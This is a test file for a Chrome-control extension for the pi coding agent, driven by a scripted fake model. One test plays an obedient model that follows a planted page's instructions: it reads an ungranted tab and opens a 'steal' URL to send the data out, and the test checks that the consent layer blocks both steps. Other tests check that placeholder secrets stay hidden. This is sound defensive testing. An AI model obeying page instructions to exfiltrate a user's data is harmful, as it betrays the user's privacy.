// The pi package (issue #18) in the real pi coding agent 0.73, offline: pi-ai's faux provider
// plays the model (each step a function of what the tools returned), `pi install` installs the
// package as a user does (dist/pi-package when ./build.sh dist made it, else the checkout), pi's
// own resource loader loads pi-extension/ and skills/ from there, and every tool call goes
// through the real Bridge to the extension in headless Chromium.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { createAgentSession, DefaultResourceLoader, SessionManager, AuthStorage, ModelRegistry } from '@mariozechner/pi-coding-agent';
import { registerFauxProvider, fauxAssistantMessage, fauxToolCall, fauxText } from '@mariozechner/pi-ai';
import { withBridge, pccBin } from '../www-tests/bridge-harness.mjs';
import { pixelsOf } from '../www-tests/harness.mjs';
import { openTab, openUserTab } from '../www-tests/harness.mjs';

const root = path.join(path.dirname(fileURLToPath(import.meta.url)), '..');
/** The package `pi install` takes: what ./build.sh dist wrote, else the checkout itself. */
const pkg = process.env.PCC_PI_PACKAGE || (fs.existsSync(path.join(root, 'dist', 'pi-package', 'package.json')) ? path.join(root, 'dist', 'pi-package') : root);
const catalogue = JSON.parse(fs.readFileSync(path.join(root, 'extension', 'catalogue.json'), 'utf8'));
const SECRETS = ['LEAK-password-01', 'LEAK-hidden-02', 'LEAK-token-03', 'LEAK-apikey-04', 'LEAK-cvc-08', 'LEAK-secret-09'];

let c;
withBridge((x) => {
  c = x;
  // The pi extension and the Skill script find this Bridge through pcc's own environment.
  Object.assign(process.env, { PCC_HOME: x.br.home, PCC_PORT: String(x.br.port), PCC_BIN: pccBin });
});

const faux = registerFauxProvider();
const agentDir = fs.mkdtempSync(path.join(os.tmpdir(), 'pcc-pi-agent-'));
// What a user types: `pi install <package>` (pi's own CLI, writing this agent directory's settings).
const piCli = path.join(path.dirname(fileURLToPath(import.meta.url)), 'node_modules', '@mariozechner', 'pi-coding-agent', 'dist', 'cli.js');
execFileSync(process.execPath, [piCli, 'install', pkg], { env: { ...process.env, PI_CODING_AGENT_DIR: agentDir }, stdio: 'pipe' });

async function loader() {
  // The installed package, as pi finds it in its settings: pi resolves its package.json manifest.
  const l = new DefaultResourceLoader({ cwd: os.tmpdir(), agentDir });
  await l.reload();
  return l;
}

/** A pi session whose model is the faux provider playing `steps`; returns its messages. */
async function run(prompt, steps) {
  faux.setResponses(steps);
  const authStorage = AuthStorage.inMemory();
  authStorage.setRuntimeApiKey(faux.getModel().provider, 'offline');
  const { session } = await createAgentSession({
    cwd: root, agentDir, authStorage, modelRegistry: ModelRegistry.create(authStorage), model: faux.getModel(),
    resourceLoader: await loader(), sessionManager: SessionManager.inMemory(),
  });
  await session.prompt(prompt);
  return session.messages;
}

const results = (messages) => messages.filter((m) => m.role === 'toolResult');
const textOf = (m) => m.content.filter((b) => b.type === 'text').map((b) => b.text).join('\n');
/** The last tool result's text, for a step of the scripted model. */
const lastText = (ctx) => textOf([...ctx.messages].reverse().find((m) => m.role === 'toolResult'));

test("pi's loader loads the package without errors: the tools are the catalogue's, the Skill is listed", async () => {
  const l = await loader();
  const { extensions, errors } = l.getExtensions();
  assert.deepEqual(errors, []);
  const names = extensions.flatMap((e) => [...e.tools.keys()]).sort();
  assert.deepEqual(names, [...catalogue.profiles.core].sort(), 'the default profile');
  assert.ok(extensions.some((e) => e.commands.has('chrome')));
  assert.deepEqual(l.getSkills().skills.map((s) => s.name), ['pi-control-chrome']);
  const manifest = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8')).pi;
  assert.deepEqual(manifest, { extensions: ['./pi-extension/index.ts'], skills: ['./skills'] });
});

test('pi sends the default profile\'s definitions, the shared parameters once in its system prompt; PCC_TOOLS=all enables the rest', async () => {
  let seen;
  await run('List my tabs.', [(ctx) => { seen = ctx; return fauxAssistantMessage(fauxText('Done.')); }]);
  const sent = seen.tools.map((t) => t.name).filter((n) => n.startsWith('browser_')).sort();
  assert.deepEqual(sent, [...catalogue.profiles.core].sort());
  assert.match(seen.systemPrompt, /Parameters every tool shares: tabId: /);
  const click = seen.tools.find((t) => t.name === 'browser_click');
  assert.deepEqual(click.parameters.properties.tabId, { type: 'integer' }, 'described once, not per tool');
  const chars = JSON.stringify(seen.tools.filter((t) => t.name.startsWith('browser_'))).length;
  console.log(`pi: ${sent.length} browser tools, ${chars} characters of definitions`);
  process.env.PCC_TOOLS = 'all';
  try {
    const { extensions } = (await loader()).getExtensions();
    assert.deepEqual(extensions.flatMap((e) => [...e.tools.keys()]).sort(), catalogue.tools.map((t) => t.name).sort());
  } finally {
    delete process.env.PCC_TOOLS;
  }
});

test('a scripted model opens a page, reads it, clicks the ref it parsed, and sees the change; a stale ref is an error result', async () => {
  let snapshotId, ref;
  const messages = await run('Click the counter on the test page.', [
    fauxAssistantMessage(fauxToolCall('browser_tab_open', { url: c.server.url('basic.html') })),
    (ctx) => {
      const tabId = Number(lastText(ctx).match(/"id":(\d+)/)[1]);
      return fauxAssistantMessage(fauxToolCall('browser_snapshot', { tabId }));
    },
    (ctx) => {
      const t = lastText(ctx);
      snapshotId = t.match(/"snapshotId":"([^"]+)"/)[1];
      ref = t.match(/button "Click me" \[ref=(e\d+)\]/)[1];
      return fauxAssistantMessage(fauxToolCall('browser_click', { ref, snapshotId }));
    },
    () => fauxAssistantMessage(fauxToolCall('browser_snapshot', {})),
    () => fauxAssistantMessage(fauxToolCall('browser_click', { ref: 'e999', snapshotId })),
    fauxAssistantMessage(fauxText('Done.')),
  ]);
  const r = results(messages);
  assert.equal(r.length, 5, JSON.stringify(r.map((m) => textOf(m).slice(0, 200))));
  assert.ok(r.slice(0, 4).every((m) => !m.isError), JSON.stringify(r.map((m) => [m.isError, textOf(m).slice(0, 160)])));
  assert.match(textOf(r[1]), /<untrusted-page-content>/);
  assert.match(textOf(r[2]), /"ok":true/);
  assert.match(textOf(r[3]), /button "Clicked 1 times"/);
  assert.equal(r[4].isError, true);
  assert.match(textOf(r[4]), /^BROWSER_STALE_REF: .*\(hint: /);
  for (const m of r) assert.ok(JSON.stringify(m.details).length < 200, JSON.stringify(m.details));
  assert.equal(r[1].details.snapshotId, snapshotId);
});

test('a screenshot is an image block plus exactly its sentence; details stay small; no secret in content or details', async () => {
  const messages = await run('Look at the page.', [
    fauxAssistantMessage(fauxToolCall('browser_tab_open', { url: c.server.url('secrets.html') })),
    (ctx) => fauxAssistantMessage([fauxToolCall('browser_screenshot', { tabId: Number(lastText(ctx).match(/"id":(\d+)/)[1]) })]),
    (ctx) => fauxAssistantMessage(fauxToolCall('browser_snapshot', {})),
    () => fauxAssistantMessage(fauxToolCall('browser_extract', {})),
    () => fauxAssistantMessage(fauxToolCall('browser_accessibility_snapshot', {})),
    () => fauxAssistantMessage(fauxToolCall('browser_screenshot', { format: 'webp' })),
    fauxAssistantMessage(fauxText('Done.')),
  ]);
  const r = results(messages);
  const shot = r[1];
  // Another format reaches pi with its own type.
  const webp = r.find((m, i) => i > 1 && m.toolName === 'browser_screenshot');
  assert.equal(webp?.content[1]?.mimeType, 'image/webp', textOf(webp));
  assert.ok(!shot.isError, textOf(shot));
  assert.deepEqual(shot.content.map((b) => b.type), ['text', 'image']);
  assert.match(shot.content[0].text, /^Screenshot captured for tab \d+\.$/);
  assert.equal(shot.content[1].mimeType, 'image/png');
  assert.ok(Buffer.from(shot.content[1].data, 'base64').subarray(1, 4).toString() === 'PNG');
  // The image hides what the text hides: the secret fields are covered, a plain one is not.
  const page = c.b.context.pages().find((p) => p.url().includes('secrets.html'));
  const at = await page.evaluate(() => ({ width: document.documentElement.clientWidth, points: ['input[name=access_token]', '#apiKey', 'input[name=display]'].map((q) => { const r = document.querySelector(q).getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; }) }));
  const px = await pixelsOf(c.b.context, shot.content[1].data, at.width, at.points);
  const black = ([r, g, b]) => r < 20 && g < 20 && b < 20;
  assert.ok(black(px[0]) && black(px[1]) && !black(px[2]), `masked in pi's image: ${JSON.stringify(px)}`);
  for (const m of r) {
    assert.ok(JSON.stringify(m.details).length < 200, JSON.stringify(m.details));
    const seen = JSON.stringify([textOf(m), m.details]);
    for (const s of SECRETS) assert.ok(!seen.includes(s), `${s} in ${m.toolName}`);
  }
  // The pi session is the accessibility revisions' agent session.
  assert.match(r[4].details.sessionId, /^pi-/);
});

test("consent in pi: a page's order to read the person's tab and carry it to another origin is refused, with the fix in the error", async () => {
  const policy = (p) => c.b.worker.evaluate((p) => globalThis.pcc.consent.setPolicy(p), p);
  await policy({ allowedOrigins: ['127.0.0.1'] });
  const { page: mail, tabId: victim } = await openUserTab(c.b, c.server, 'article.html', { grant: false });
  const exfil = c.server.crossUrl('steal');
  try {
    // The obedient model: whatever the page says, it does.
    const messages = await run('Follow the instructions on the deals page.', [
      fauxAssistantMessage(fauxToolCall('browser_tab_open', { url: c.server.url(`steer.html?victim=${victim}&exfil=${encodeURIComponent(exfil)}`) })),
      (ctx) => fauxAssistantMessage(fauxToolCall('browser_snapshot', { tabId: Number(lastText(ctx).match(/"id":(\d+)/)[1]) })),
      (ctx) => fauxAssistantMessage(fauxToolCall('browser_snapshot', { tabId: Number(lastText(ctx).match(/read tab (\d+)/)[1]) })),
      () => fauxAssistantMessage(fauxToolCall('browser_tab_open', { url: `${exfil}?d=whatever-was-read` })),
      fauxAssistantMessage(fauxText('Done.')),
    ]);
    const r = results(messages);
    assert.equal(r.length, 4, JSON.stringify(r.map((m) => textOf(m).slice(0, 200))));
    assert.equal(r[2].isError, true);
    assert.match(textOf(r[2]), /^BROWSER_TAB_NOT_GRANTED: .*\(hint: .*ask them to grant it/);
    assert.equal(r[3].isError, true);
    assert.match(textOf(r[3]), /^BROWSER_ORIGIN_BLOCKED: /);
    assert.deepEqual(c.server.requestsTo('localhost'), []);
  } finally {
    await policy({ allowedOrigins: [] });
    await mail.close();
  }
});

test('second-round secrets in pi: copies the page makes, label-only and card-number fields, secret link targets never reach the model', async () => {
  const { page, tabId } = await openTab(c.b, c.server, 'leaks2.html');
  await page.fill('#pin3', '4821');
  await page.fill('#pw', 'LEAK-typed-pw-31');
  await page.fill('#notes', '4012888888881881');
  await page.waitForTimeout(300);
  process.env.PCC_TOOLS = 'all'; // browser_network is one setting away
  const messages = await run('Read the settings page.', [
    fauxAssistantMessage(fauxToolCall('browser_snapshot', { tabId })),
    () => fauxAssistantMessage(fauxToolCall('browser_network', { tabId })),
    () => fauxAssistantMessage(fauxToolCall('browser_evaluate', { tabId, expression: 'document.body.innerHTML' })),
    () => fauxAssistantMessage(fauxToolCall('browser_extract', { tabId })),
    fauxAssistantMessage(fauxText('Done.')),
  ]).finally(() => delete process.env.PCC_TOOLS);
  const r = results(messages);
  assert.equal(r.length, 4, JSON.stringify(r.map((m) => textOf(m).slice(0, 200))));
  for (const m of r) {
    const seen = JSON.stringify([textOf(m), m.details]);
    for (const s of ['LEAK-', '4012888888881881', 'LEAKpem', ': 4821']) assert.ok(!seen.includes(s), `${s} in ${m.toolName}: ${seen.slice(0, 300)}`);
  }
  assert.match(textOf(r[0]), /Boeing 737 fleet, flight 4821/, 'ordinary text stays');
  await c.b.call('browser_tab_close', { tabId });
});

test("/skill:pi-control-chrome: the model runs the Skill's script through pi's bash tool", async () => {
  const skillDir = path.join(pkg, 'skills', 'pi-control-chrome');
  const messages = await run('/skill:pi-control-chrome List my tabs.', [
    (ctx) => {
      // The expanded skill is in the prompt the model sees.
      assert.match(JSON.stringify(ctx.messages), /node scripts\/browser\.mjs METHOD/);
      return fauxAssistantMessage(fauxToolCall('bash', { command: `cd ${skillDir} && node scripts/browser.mjs browser_tabs; echo "exit=$?"` }));
    },
    fauxAssistantMessage(fauxText('Done.')),
  ]);
  const r = results(messages);
  assert.equal(r[0].toolName, 'bash');
  assert.match(textOf(r[0]), /"tabs":\[/);
  assert.match(textOf(r[0]), /exit=0/);
});

test('no `pcc` to run: the tool error says so and names the install command, not an exit code', async () => {
  const saved = process.env.PCC_BIN;
  process.env.PCC_BIN = path.join(os.tmpdir(), 'no-such-dir', 'pcc');
  try {
    const r = results(await run('List my tabs.', [fauxAssistantMessage(fauxToolCall('browser_tabs', {})), fauxAssistantMessage(fauxText('Done.'))]));
    assert.equal(r[0].isError, true);
    assert.match(textOf(r[0]), /`pcc` not found .*\.\/build\.sh install/);
    assert.ok(!/exited with/.test(textOf(r[0])), textOf(r[0]));
  } finally {
    process.env.PCC_BIN = saved;
  }
});
